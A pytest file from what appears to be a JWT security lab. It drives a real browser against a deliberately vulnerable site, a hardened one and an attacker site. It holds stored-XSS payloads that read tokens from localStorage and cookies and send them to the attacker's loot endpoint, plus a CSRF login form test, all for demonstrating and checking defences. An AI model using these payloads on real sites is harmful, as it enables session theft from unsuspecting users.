"""The two front ends and the attacker's pages in a real browser, on the faces that serve them."""

import base64
import itertools
import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from urllib.parse import urlencode

import pytest
import requests

from jwtlab.browser.chromium import ChromiumJar
from jwtlab.browser.connection import Message
from jwtlab.site import Site, start_site
from tests.helpers.browser import TestedPage, chromium
from tests.helpers.processes import until

EVERYWHERE = [("seed", "local"), ("seed", "cookie"), ("hardened", "cookie")]

http = requests.Session()
http.trust_env = False  # a proxy of this machine has no say on loopback
number = itertools.count(1)  # tests share the sites: what one of them writes has a number of its own


@pytest.fixture(scope="module")
def sites() -> Iterator[dict[str, Site]]:
    """A site of each face, by name. Asks for the browser first: without one there is nothing to start."""
    with chromium():
        running = {face: start_site(face) for face in ("seed", "hardened", "attacker")}
    yield running
    for site in running.values():
        site.stop()


class Visitor:
    """A person with a browser of their own, in one tab."""

    def __init__(self, jar: ChromiumJar) -> None:
        self.jar = jar
        self.page = TestedPage(jar.open_tab())

    @property
    def errors(self) -> list[str]:
        """What the page's scripts ran into, and what its policy stopped."""
        return self.page.exceptions + [error for error in self.page.errors if "Policy" in error]

    def open(self, url: str) -> None:
        """Open a front end, and wait until it knows whether one is logged in."""
        self.page.go(url)
        self.page.wait_for("#app:not([data-session=unknown])")
        self.page.wait_for("#entries li")

    def log_in(self, username: str = "vitor", password: str = "123") -> None:
        self.page.fill("User name", username).fill("Password", password).click("Log in")
        self.wait_for_session("in")

    def wait_for_session(self, state: str) -> None:
        self.page.wait_for(f"#app[data-session={state}]")

    def add_note(self) -> str:
        """Add a note, wait until it is shown, and return its title."""
        title = f"Note {next(number)}"
        self.page.fill("Title", title).click("Add note")
        self.wait_for_note(title)
        return title

    def wait_for_note(self, title: str) -> None:
        self.page.wait_for("#notes h3", title, exact=True)

    @property
    def session(self) -> str:
        return str(self.page.run("document.querySelector('#app').dataset.session"))

    @property
    def notes(self) -> list[str]:
        return self.page.texts("#notes h3")

    @property
    def alerts(self) -> list[str]:
        return self.page.texts("[role=alert]")


@pytest.fixture
def visitor(sites) -> Iterator[Callable[[], Visitor]]:
    """Make visitors: `visitor()`; each has its own cookies and storage."""
    with ExitStack() as jars:
        yield lambda: Visitor(jars.enter_context(chromium()))


@pytest.mark.parametrize(("face", "kind"), EVERYWHERE)
def test_a_person_logs_in_reads_writes_signs_and_logs_out(sites, visitor, face, kind):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/{kind}/")
    assert vitor.session == "out"
    vitor.page.fill("User name", "vitor").fill("Password", "wrong").click("Log in")
    vitor.page.wait_for("[role=alert]", "401 · ")
    vitor.log_in()
    assert vitor.alerts == []
    assert vitor.notes[:2] == ["Shopping", "Talk"]
    title = vitor.add_note()
    vitor.page.fill("Name", "vitor").fill("Message", f"Hello from {kind}.").click("Sign")
    vitor.page.wait_for("#entries", f"Hello from {kind}.")
    vitor.open(vitor.page.url)  # loaded again, the page is still logged in
    assert (vitor.session, vitor.notes[-1]) == ("in", title)
    vitor.page.click("Log out")
    vitor.wait_for_session("out")
    vitor.open(vitor.page.url)
    assert vitor.session == "out"
    assert vitor.errors == []


@pytest.mark.parametrize(("face", "kind"), EVERYWHERE)
def test_an_access_token_that_expires_is_renewed_unnoticed(sites, visitor, face, kind):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/{kind}/")
    vitor.log_in()
    before = vitor.page.texts("#claims")
    sites[face].clock.advance(minutes=6)
    vitor.add_note()
    assert vitor.page.texts("#claims") != before
    assert vitor.alerts == []


def test_a_session_that_has_ended_leads_to_the_login_form(sites, visitor):
    vitor = visitor()
    vitor.open(f"{sites['hardened'].url}/app/cookie/")
    vitor.log_in()
    vitor.page.tab.send("Network.clearBrowserCookies")
    sites["hardened"].clock.advance(minutes=6)
    vitor.page.fill("Title", "too late").click("Add note")
    vitor.page.wait_for("#log-in")
    assert vitor.alerts == ["You are no longer logged in."]
    assert vitor.page.run("document.activeElement.id") == "username"


# Stored scripts. An <img> without an address fails at once, and no request is sent for it.

STEAL_STORAGE = "new Image().src='{loot}?{tag}&'+localStorage.access+'&'+localStorage.refresh"
USE_COOKIE = (
    "fetch('/api/token/refresh/',{{method:'POST'}}).then(r=>r.json())"
    ".then(b=>new Image().src='{loot}?{tag}&c='+document.cookie+'&'+b.access)"
)


def sign(site: Site, attacker: Site, script: str) -> str:
    """Leave a script in a guest book, and return the tag of what it will send."""
    tag = f"script{next(number)}"
    message = f'<img src onerror="{script.format(loot=attacker.url + "/loot", tag=tag)}">'
    signed = http.post(f"{site.url}/api/guestbook/", json={"name": "mallory", "message": message})
    assert signed.status_code == 201
    return tag


def loot(attacker: Site, tag: str) -> list[list[str]]:
    """Return what came in with this tag: of each request, what follows."""
    queries = [entry["query"].split("&") for entry in http.get(f"{attacker.url}/loot.json").json()]
    return [parts[1:] for parts in queries if parts[0] == tag]


@pytest.mark.parametrize(("kind", "script"), [("local", STEAL_STORAGE), ("cookie", USE_COOKIE)])
def test_on_the_seed_face_a_stored_script_gets_a_token_out(sites, visitor, kind, script):
    vitor = visitor()
    vitor.open(f"{sites['seed'].url}/app/{kind}/")
    vitor.log_in()
    tag = sign(sites["seed"], sites["attacker"], script)
    vitor.page.reload()
    until(lambda: loot(sites["attacker"], tag), "the loot comes in")
    stolen = loot(sites["attacker"], tag)[0]
    assert [part[:3] for part in stolen] == {"local": ["eyJ", "eyJ"], "cookie": ["c=", "eyJ"]}[kind]
    bearer = {"Authorization": f"Bearer {stolen[kind == 'cookie']}"}
    assert http.get(f"{sites['seed'].url}/hello/", headers=bearer).status_code == 200


@pytest.mark.parametrize(("face", "query"), [("hardened", ""), ("seed", "?csp")])
def test_where_the_text_is_escaped_or_the_policy_is_sent_the_script_does_not_run(sites, visitor, face, query):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/cookie/")
    vitor.log_in()
    tag = sign(sites[face], sites["attacker"], USE_COOKIE)
    vitor.open(f"{sites[face].url}/app/cookie/{query}")
    vitor.add_note()  # the page is at work, and time has passed
    assert loot(sites["attacker"], tag) == []
    refused = [error for error in vitor.errors if "inline event handler" in error]
    assert bool(refused) is (face == "seed")  # there the policy stopped it; elsewhere there was no script


# Two tabs, one cookie


def test_two_tabs_refresh_log_out_and_log_in_together(sites, visitor):
    url = f"{sites['hardened'].url}/app/cookie/"
    one = visitor()
    one.open(url)
    one.log_in()
    two = Visitor(one.jar)
    two.open(url)
    assert two.session == "in"
    sites["hardened"].clock.advance(minutes=6)
    titles = {one: f"Note {next(number)}", two: f"Note {next(number)}"}
    for tab, title in titles.items():  # neither waits for the other
        tab.page.fill("Title", title).run("document.querySelector('#add-note').requestSubmit()")
    for tab, title in titles.items():
        tab.wait_for_note(title)
        assert tab.session == "in"
    one.page.click("Log out")
    two.wait_for_session("out")
    one.log_in("alice", "correct-horse-battery")
    two.wait_for_note("Diary")


def test_a_refresh_that_comes_a_moment_too_early_is_sent_again(sites, visitor):
    vitor = visitor()
    vitor.open(f"{sites['hardened'].url}/app/cookie/")
    vitor.log_in()
    early = itertools.count()
    body = base64.b64encode(b'{"detail": "too early"}').decode()
    headers = [{"name": "Content-Type", "value": "application/json"}]

    def answer(request: Message) -> None:
        its = {"requestId": request["requestId"]}
        if next(early) < 2:
            vitor.page.tab.post(
                "Fetch.fulfillRequest", **its, responseCode=409, responseHeaders=headers, body=body
            )
        else:
            vitor.page.tab.post("Fetch.continueRequest", **its)

    vitor.page.tab.listen("Fetch.requestPaused", answer)
    vitor.page.tab.send("Fetch.enable", patterns=[{"urlPattern": "*/api/token/refresh/"}])
    vitor.open(vitor.page.url)
    assert vitor.session == "in"
    assert next(early) == 3  # two that came too early, and one that did not


# The look, and pages beside the front ends


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_is_wider_than_a_small_screen(sites, visitor, scheme):
    vitor = visitor()
    vitor.page.set_screen(360, 640, scheme)
    for path in ("/app/local/", "/app/cookie/"):
        vitor.open(sites["seed"].url + path)
        vitor.log_in()
        assert vitor.page.run("document.documentElement.scrollWidth") == 360


def test_the_documentation_page_works_under_its_policy(sites, visitor):
    reader = visitor()
    reader.page.go(f"{sites['hardened'].url}/api/docs/")
    reader.page.wait_for("#operations-notes-notes_list")
    assert reader.errors == []


def test_the_attackers_form_sends_itself_and_logs_a_visitor_in(sites, visitor):
    victim = visitor()
    login = {"action": f"{sites['seed'].url}/login/", "username": "mallory", "password": "mallory-attacks"}
    evil = f"http://localhost:{sites['attacker'].port}"  # another site than 127.0.0.1
    victim.page.go(f"{evil}/form/?{urlencode(login)}").answer(login["action"])
    victim.page.wait_until("location.pathname === '/login/'")
    victim.open(f"{sites['seed'].url}/app/cookie/")
    assert victim.notes == ["To do"]


def test_the_attackers_script_reports_what_it_could_read(sites, visitor):
    page = visitor().page
    reports = []
    for target in (f"{sites['seed'].url}/api/guestbook/", f"{sites['attacker'].url}/loot?open"):
        page.go(f"{sites['attacker'].url}/fetch/?{urlencode({'url': target})}")
        page.wait_for("#report[data-done]")
        reports += page.texts("#report")
    closed, opened = map(json.loads, reports)
    assert closed == {"url": f"{sites['seed'].url}/api/guestbook/", "read": False}
    assert (opened["read"], opened["status"]) == (True, 204)
    bodies = [entry["body"] for entry in http.get(f"{sites['attacker'].url}/loot.json").json()]
    assert [body for body in bodies if body] == reports  # it is loot as well
